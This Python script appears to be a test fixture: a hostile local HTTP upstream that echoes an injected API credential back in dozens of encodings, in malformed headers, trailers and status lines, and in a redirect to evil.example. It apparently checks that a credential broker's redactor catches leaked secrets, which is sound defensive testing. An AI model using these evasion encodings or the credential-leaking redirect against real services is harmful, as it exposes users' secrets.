#!/usr/bin/python3
# A hostile plain-HTTP upstream that logs every request it
# parses (conn number, the client's port, head, body) as JSON lines and answers
# by path.  The credential it received (the injected header) is available to
# the echo cases, so they reflect exactly what the broker sent.
# Prints its port on stdout.  Usage: hostile.py LOGFILE [PORT]
import base64, binascii, gzip, itertools, json, socket, sys, threading, time, html, urllib.parse

LOG = sys.argv[1]
LOCK = threading.Lock()
CONNS = itertools.count(1)


def log(rec):
    with LOCK, open(LOG, "a") as f:
        f.write(json.dumps(rec) + "\n")


def cred_of(head):
    for line in head.split(b"\r\n")[1:]:
        k, _, v = line.partition(b":")
        if k.strip().lower() in (b"authorization", b"x-api-key"):
            v = v.strip()
            if v.lower().startswith(b"bearer "):
                v = v[7:]
            return v
    # query:PARAM injection
    tgt = head.split(b" ")[1]
    if b"?" in tgt:
        for kv in tgt.split(b"?", 1)[1].split(b"&"):
            k, _, v = kv.partition(b"=")
            if k == b"key":
                return urllib.parse.unquote_to_bytes(v)
    return b"NONE"


def forms(s):
    """Spellings of s a benign echoing upstream might produce."""
    t = s.decode("latin-1")
    return {
        "raw": s,
        "html_dec": "".join("&#%d;" % ord(c) for c in t).encode(),
        "html_hex": "".join("&#x%x;" % ord(c) for c in t).encode(),
        "hex_mixed": "".join((("%02x" if i % 2 else "%02X") % b) for i, b in enumerate(s)).encode(),
        "b64_wrapped": b"\n".join(base64.b64encode(b"user:" + s)[i:i + 8] for i in range(0, 80, 8)),
        "b64_mime": base64.encodebytes(s),
        "pct2": urllib.parse.quote(urllib.parse.quote(t, safe=""), safe="").encode(),
        "upper": s.upper(),
        "lower": s.lower(),
        "utf16": t.encode("utf-16-le"),
        "json_in_url": urllib.parse.quote(json.dumps(t)).encode(),
        "spaced": b" ".join(bytes([c]) for c in s),
        "b32": base64.b32encode(s),
        "reversed": s[::-1],
        "octal": "".join("\\%03o" % b for b in s).encode(),
        "cx": "".join("\\x%02x" % b for b in s).encode(),
        "qp": b"".join(b"=%02X" % b for b in s),
        "gz": gzip.compress(s),
        "mix_pj": "".join(("%%%02X" % b) if i % 2 else ("\\u%04x" % b) for i, b in enumerate(s)).encode(),
        "mix_pj_raw": "".join(("%%%02x" % b) if i % 3 == 0 else ("\\u%04X" % b) if i % 3 == 1 else chr(b) for i, b in enumerate(s)).encode(),
        "pct_all_lower": "".join("%%%02x" % b for b in s).encode(),
        "json_u_all": "".join("\\u%04x" % b for b in s).encode(),
        "b64url_off1": base64.urlsafe_b64encode(b"x" + s).rstrip(b"="),
        "b64_json_slash": json.dumps(base64.b64encode(b"\xfb\xff" + s).decode()).replace("/", "\\/").encode(),
        "hex_upper": s.hex().upper().encode(),
    }


def respond(c, conn, seq, head, body):
    tgt = head.split(b" ")[1].decode("latin-1")
    path = tgt.split("?")[0]
    parts = path.strip("/").split("/")
    cred = cred_of(head)
    info = json.dumps({"conn": conn, "seq": seq, "path": path}).encode()
    if parts and parts[0] == "form":             # /form/NAME: the credential echoed in that spelling
        b = forms(cred).get(parts[1], b"?")
        c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(b) + b)
        return True
    if parts and parts[0] == "hform":            # /hform/NAME: ... in a response header
        b = forms(cred).get(parts[1], b"?").replace(b"\r", b"").replace(b"\n", b"")
        c.sendall(b"HTTP/1.1 200 OK\r\nX-Echo: " + b + b"\r\nContent-Length: 2\r\n\r\nok")
        return True
    if path.endswith("/close"):
        c.sendall(b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: %d\r\n\r\n" % len(info) + info)
        return False
    if path == "/r/status-secret":               # the credential in the reason phrase
        c.sendall(b"HTTP/1.1 200 " + cred + b"\r\nContent-Length: 2\r\n\r\nok")
        return True
    if path == "/r/103-secret":                  # an interim response carrying it
        c.sendall(b"HTTP/1.1 103 Early Hints\r\nLink: <" + cred + b">\r\n\r\n"
                  b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
        return True
    if path == "/r/101":
        c.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: Upgrade\r\n\r\n" + cred)
        time.sleep(0.5)
        return False
    if path == "/r/lf-only":
        c.sendall(b"HTTP/1.1 200 OK\nContent-Length: 2\nX-E: " + cred + b"\n\nok")
        return True
    if path == "/r/cr-header":                   # a bare CR inside a header value (response splitting)
        c.sendall(b"HTTP/1.1 200 OK\r\nX-A: a\rHTTP/1.1 200 OK\rX-Injected: 1\r\nContent-Length: 2\r\n\r\nok")
        return True
    if path == "/r/nul-header":                  # the credential after a NUL in a header value
        c.sendall(b"HTTP/1.1 200 OK\r\nX-A: a\x00" + cred + b"\r\nContent-Length: 2\r\n\r\nok")
        return True
    if path == "/r/many-headers":                # 10,000 header lines
        c.sendall(b"HTTP/1.1 200 OK\r\n" + b"".join(b"X-%d: %s\r\n" % (i, cred) for i in range(10000)) + b"Content-Length: 2\r\n\r\nok")
        return True
    if path == "/r/split-header":                # the credential split over two header lines
        h = len(cred) // 2
        c.sendall(b"HTTP/1.1 200 OK\r\nX-A: " + cred[:h] + b"\r\nX-B: " + cred[h:] + b"\r\nContent-Length: 2\r\n\r\nok")
        return True
    if parts[:2] == ["r", "ce"]:                 # /r/ce/N: Content-Encoding spellings, gzip body of the credential
        ces = [b"Content-Encoding: identity,gzip", b"Content-Encoding:\tgzip", b"content-encoding: GZIP", b"Content-Encoding: x-gzip",
               b"Content-Encoding: \"gzip\"", b"Content-Encoding: identity;q=1, gzip", b"Content-Encoding:\r\nContent-Encoding: gzip",
               b"Content-Encoding: identity\r\nContent-Encoding: gzip", b"Content-Encoding: gzip ", b"Content-Encoding: ,gzip",
               b"Content-Encoding: identity\x0bgzip", b"Content-Encoding: deflate", b"Content-Encoding: br", b"Content-Encoding: zstd",
               b"Transfer-Encoding: gzip", b"Content-Encoding: aes128gcm", b"Content-Encoding: compress", b"Content-Encoding: *"]
        i = int(parts[2])
        if i >= len(ces):
            c.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"); return True
        b = gzip.compress(b"key=" + cred)
        c.sendall(b"HTTP/1.1 200 OK\r\n" + ces[i] + b"\r\nContent-Length: %d\r\n\r\n" % len(b) + b)
        return True
    if parts[:2] == ["r", "status"]:             # /r/status/CODE: an arbitrary status line
        c.sendall(b"HTTP/1.1 " + parts[2].encode() + b" X\r\nContent-Length: 2\r\n\r\nok")
        return True
    if parts[:2] == ["r", "statusline"]:         # /r/statusline/N: odd status lines
        lines = [b"HTTP/1.1 200", b"HTTP/1.1  200 OK", b"HTTP/1.1 2000 OK", b"HTTP/1.1 -200 OK", b"HTTP/1.1 +200 OK", b"HTTP/1.1 0x1 OK",
                 b"HTTP/1.0 200 OK", b"HTTP/2 200", b"HTTP/0.9 200 OK", b"HTTP/1.1 200\tOK", b"http/1.1 200 OK", b"HTTP/1.1 099 OK",
                 b"ICY 200 OK", b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK"]
        i = int(parts[2])
        c.sendall(lines[i % len(lines)] + b"\r\nContent-Length: 2\r\n\r\nok")
        return True
    if parts[:2] == ["r", "adv"]:                # /r/adv/KIND: 20 MB built to make the redactor work hard
        k = parts[2]
        unit = {"plain": b"x" * 64,
                "prefix": cred[:-1] + b" ",                        # the value minus its last byte, again and again
                "pct": b"".join(b"%%%02X" % b for b in cred[:-1]) + b"%",
                "json": b"".join(b"\\u%04x" % b for b in cred[:-1]) + b"\\u00",
                "b64": base64.b64encode(b"u:" + cred)[:-2] + b"==",
                "hexp": cred.hex().encode()[:-1] + b"g",
                "mixed": b"%" + b"\\u00" * 4 + b"%2" + cred[:8]}[k]
        body = (unit * (20_000_000 // len(unit) + 1))[:20_000_000]
        c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body))
        c.sendall(body)
        return True
    if path == "/r/early":                       # answer before reading the body
        c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(info) + info)
        return True
    if path == "/r/trailer-secret":
        c.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-T\r\n\r\n2\r\nok\r\n0\r\nX-T: " + cred + b"\r\n\r\n")
        return True
    if path == "/r/chunkext-secret":
        c.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n2;e=" + cred + b"\r\nok\r\n0\r\n\r\n")
        return True
    if path == "/r/eof-body":                    # body to EOF, secret inside
        c.sendall(b"HTTP/1.1 200 OK\r\n\r\nx" + cred + b"y")
        return False
    if path == "/r/location":
        c.sendall(b"HTTP/1.1 302 Found\r\nLocation: https://evil.example/?k=" + urllib.parse.quote(cred.decode("latin-1"), safe="").lower().encode() + b"\r\nContent-Length: 0\r\n\r\n")
        return True
    c.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(info) + info)
    return True


def serve(c, addr):
    conn = next(CONNS)
    buf = b""
    seq = 0
    try:
        while True:
            while b"\r\n\r\n" not in buf:
                d = c.recv(65536)
                if not d:
                    if buf:
                        log({"conn": conn, "port": addr[1], "partial": buf.decode("latin-1")})
                    return
                buf += d
            head, buf = buf.split(b"\r\n\r\n", 1)
            body = b""
            hl = head.lower()
            early = b" /r/early" in head.split(b"\r\n")[0]
            if not early:
                if b"\r\ntransfer-encoding: chunked" in hl:
                    while True:
                        while b"\r\n" not in buf:
                            buf += c.recv(65536)
                        sz, buf = buf.split(b"\r\n", 1)
                        n = int(sz.split(b";")[0], 16)
                        while len(buf) < n + 2:
                            buf += c.recv(65536)
                        body += buf[:n]
                        buf = buf[n + 2:]
                        if n == 0:
                            break
                elif b"\r\ncontent-length:" in hl:
                    n = int(hl.split(b"\r\ncontent-length:")[1].split(b"\r\n")[0])
                    while len(buf) < n:
                        buf += c.recv(65536)
                    body, buf = buf[:n], buf[n:]
            seq += 1
            log({"conn": conn, "port": addr[1], "seq": seq, "head": head.decode("latin-1"),
                 "body": body[:2000].decode("latin-1"), "t": time.time()})
            if not respond(c, conn, seq, head, body):
                return
    except Exception as e:
        log({"conn": conn, "error": repr(e)})
    finally:
        c.close()


def main():
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("127.0.0.1", int(sys.argv[2]) if len(sys.argv) > 2 else 0))
    s.listen(256)
    print(s.getsockname()[1], flush=True)
    while True:
        c, a = s.accept()
        threading.Thread(target=serve, args=(c, a), daemon=True).start()


main()
